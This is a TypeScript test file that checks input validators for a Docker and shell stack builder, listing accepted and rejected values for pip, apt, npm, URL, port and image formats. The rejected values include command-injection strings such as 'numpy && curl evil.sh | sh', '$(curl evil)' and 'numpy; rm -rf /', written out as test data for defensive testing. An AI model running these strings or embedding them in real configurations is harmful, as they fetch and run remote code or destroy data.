import { describe, expect, it } from 'vitest'
import { FORMATS, type FormatName } from '../../../src/stack/formats/index.js'
import { didYouMean, editDistance } from '../../../src/stack/suggest.js'

// Every format with values it must accept and values it must refuse. The refusals are mostly
// injection attempts: these strings end up in Dockerfile instructions and shell commands.
const CASES: Record<FormatName, { ok: string[]; bad: string[] }> = {
  'pep508-requirement': {
    ok: ['numpy', 'torch==2.3.1', 'numpy>=1.26', 'numpy >= 1.26, < 2', 'black[jupyter]>=24', 'a.b-c_d', 'torch==2.3.1+cu121', 'pkg~=1.4.2',
      'foo (>=1.0)', 'pywin32 ; sys_platform == "win32"', "tomli>=1 ; python_version < '3.11' and os_name != 'nt'",
      'pkg @ https://example.com/pkg-1.0-py3-none-any.whl', 'x[a, b] ; (python_version >= "3.9" or extra == "gpu")', 'pkg==1.*'],
    bad: ['', 'torch=2.3', 'numpy; rm -rf /', 'numpy && curl evil.sh | sh', '$(curl evil)', '`id`', 'numpy\nRUN curl evil', '--index-url=http://evil',
      '-r requirements.txt', 'my package', 'numpy>=', 'numpy ; python_version >= "3.9" && echo', "numpy'", 'pkg @ ftp://x/y.whl', 'numpy; $(id)',
      'torch==2.3 ; import os', 'pkg @ https://e.com/x.whl;rm -rf /', 'numpy\\'],
  },
  'apt-package': {
    ok: ['ffmpeg', 'libgl1-mesa-glx', 'g++', 'git=1:2.39.2-1.1', 'python3.11-venv', 'ffmpeg=7:5.1.4-0+deb12u1'],
    bad: ['f', 'FFmpeg', '-y', 'ffmpeg && curl evil | sh', 'vim\nRUN evil', 'a;b', '$(id)', 'ffmpeg ', 'pkg=1 2', 'curl`id`'],
  },
  'npm-spec': {
    ok: ['express', 'express@^4.18', '@types/node', '@types/node@^20', 'lodash@4.17.21', 'typescript@>=5 <6', 'react@latest', 'a@~1.2.x'],
    bad: ['Express', 'express; rm -rf /', '$(curl evil)', 'express@1 || 2', 'express@`id`', '@scope', 'express@', 'a b', 'x@1\ny'],
  },
  'maven-coordinate': {
    ok: ['org.slf4j:slf4j-api:2.0.13', 'com.google.guava:guava:33.0.0-jre'],
    bad: ['org.slf4j:slf4j-api', 'a:b:c:d', 'a:b:[1.0,2.0)', 'a:b:1;id', 'a:b:$(id)'],
  },
  'version-range': {
    ok: ['3.11', '>=3.10,<3.13', '~3.11', '^20', '2.3.*', '>=2.0', '2.3.1+cu121', '>=2.0 <3', '*', '~=2.3', '21', '1.0rc1', '== 2.3'],
    bad: ['three', '3.11; rm', '>=', 'latest', '3.11\n', '$(id)', '3.11 || 3.12', ''],
  },
  'cuda-version': { ok: ['12.1', '11.8'], bad: ['12', '12.1.1', 'cu121'] },
  'mirror-url': {
    ok: ['https://mirror.example/simple', 'http://127.0.0.1:3141/root/pypi/+simple/', 'file:///srv/wheels'],
    bad: ['mirror.example/simple', 'ftp://mirror.example', 'https://m.example/$(id)', 'https://m.example/a b', 'https://x\nRUN id', "https://x'"],
  },
  'proxy-url': { ok: ['http://proxy.example:3128', 'socks5h://127.0.0.1:1080', 'http://user:p%40ss@proxy:3128'], bad: ['proxy:3128', 'http://p;id'] },
  'host-port': { ok: ['mirror.example', '10.0.0.1:8080'], bad: ['https://mirror.example', 'a b', 'x;y'] },
  registry: { ok: ['mirror.example:5000', 'https://registry.example/v2', 'mirror.gcr.io'], bad: ['ftp://x', 'a b', 'x;id'] },
  'no-proxy': { ok: ['localhost,127.0.0.1,.internal', '*', '10.0.0.0/8, .corp'], bad: ['a;b', 'a b', '$(id)'] },
  'ip-address': { ok: ['127.0.0.1', '0.0.0.0', '::1'], bad: ['localhost', '127.0.0.256', '1.2.3.4;id'] },
  'port-mapping': { ok: ['8000', '8080:80', '5353/udp', '65535'], bad: ['0', '70000', '80:70000', 'abc', '80:', '8080:80 ; id', '-1'] },
  'stack-name': { ok: ['vision-lab', 'a', 'x.y_z-1'], bad: ['Vision', '-x', 'a b', 'a/b'] },
  'env-name': { ok: ['HF_HOME', '_X', 'a1'], bad: ['1X', 'MY VAR', 'A-B', 'A=B', 'A;B'] },
  'docker-image': {
    ok: ['python:3.11-slim-bookworm', 'nvcr.io/nvidia/pytorch:24.01-py3', 'localhost:5000/team/base', `ubuntu@sha256:${'a'.repeat(64)}`],
    bad: ['Python:3.11', 'python:3.11 AS evil', 'python\nRUN id', 'python:$(id)', ''],
  },
  'shm-size': { ok: ['8g', '512m', '8gb', '1073741824'], bad: ['8 g', 'lots', '-1g'] },
  'file-path': { ok: ['certs/ca.pem', '/etc/ssl/ca bundle.pem', '~/ca.pem'], bad: ['ca.pem;id', '$(id).pem', 'a\nb', '"x"'] },
  'single-line': { ok: ['anything $HOME `x` goes', ''], bad: ['a\nb', 'a\u0000b', 'a\rb'] },
  'extends-ref': { ok: ['pytorch', './base.toml', '../team/base.toml', 'base.toml', '../team'], bad: ['/etc/base.toml', 'py torch', '$(id)', 'https://x/base.toml'] },
  'remote-workspace': { ok: ['remote:/srv/me/project', 'remote:/home/me/my project', 'remote:/a..b'], bad: ['/srv/me', 'remote:srv/me', 'remote:/srv/../etc', 'remote:/srv/..', 'remote:/x\ny', 'ssh:/srv'] },
  'docker-host': { ok: ['unix:///var/run/docker.sock', 'tcp://10.0.0.5:2376', 'ssh://me@gpu-box', 'ssh://me@gpu-box:2222', 'npipe:////./pipe/docker_engine', 'https://h:2376'], bad: ['gpu-box', 'ftp://h', 'ssh://', 'tcp://h/path', 'ssh://me@gpu box', 'unix://'] },
  'docker-context': { ok: ['gpu', 'team.gpu-1', 'default'], bad: ['-gpu', 'gpu box', 'a/b', ''] },
}

describe.each(Object.entries(CASES))('format %s', (name, { ok, bad }) => {
  const format = FORMATS[name as FormatName]
  it.each(ok)('accepts %j', (value) => expect(format.check(value)).toBeUndefined())
  it.each(bad)('refuses %j', (value) => expect(format.check(value)).toEqual(expect.any(String)))
  if ('pattern' in format) {
    it('publishes a pattern that agrees on the accepted values', () => {
      for (const value of ok) expect(format.pattern.test(value), value).toBe(true)
    })
  }
})

describe('format messages', () => {
  it.each([
    ['pep508-requirement', 'torch=2.3', 'pip requirement "torch=2.3" uses `=`; pin a version with `==` (e.g. "torch==2.3.1")'],
    ['pep508-requirement', 'numpy && curl x', 'pip requirement "numpy && curl x" contains `&`'],
    ['pep508-requirement', 'numpy; rm -rf /', 'pip requirement "numpy; rm -rf /" has an invalid environment marker after `;` ("rm -rf /")'],
    ['pep508-requirement', '--index-url=http://evil', 'pip requirement "--index-url=http://evil" is a pip option, not a requirement; put index settings under [mirrors]'],
    ['apt-package', 'vim\nRUN evil', 'apt package "vim\\nRUN evil" contains a newline'],
    ['port-mapping', '70000', 'port 70000 is outside 1–65535'],
    ['mirror-url', 'ftp://m.example', 'URL "ftp://m.example" uses ftp://; expected http://, https://, file://'],
  ])('%s %j', (name, value, message) => {
    expect(FORMATS[name as FormatName].check(value)).toBe(message)
  })
})

describe('did you mean', () => {
  it.each([
    ['moode', ['mode', 'cuda'], 'mode'],
    ['pyhton', ['python', 'node', 'java'], 'python'],
    ['pipExtra', ['pip', 'pip_extra'], 'pip_extra'],
    ['frameworsk', ['frameworks', 'packages'], 'frameworks'],
    ['colour', ['python', 'gpu', 'env'], undefined],
    ['x', ['y', 'gpu'], undefined],
  ])('%s → %s', (input, candidates, expected) => {
    expect(didYouMean(input, candidates)).toBe(expected)
  })

  it('counts a transposition as one edit', () => {
    expect(editDistance('mdoe', 'mode')).toBe(1)
  })
})
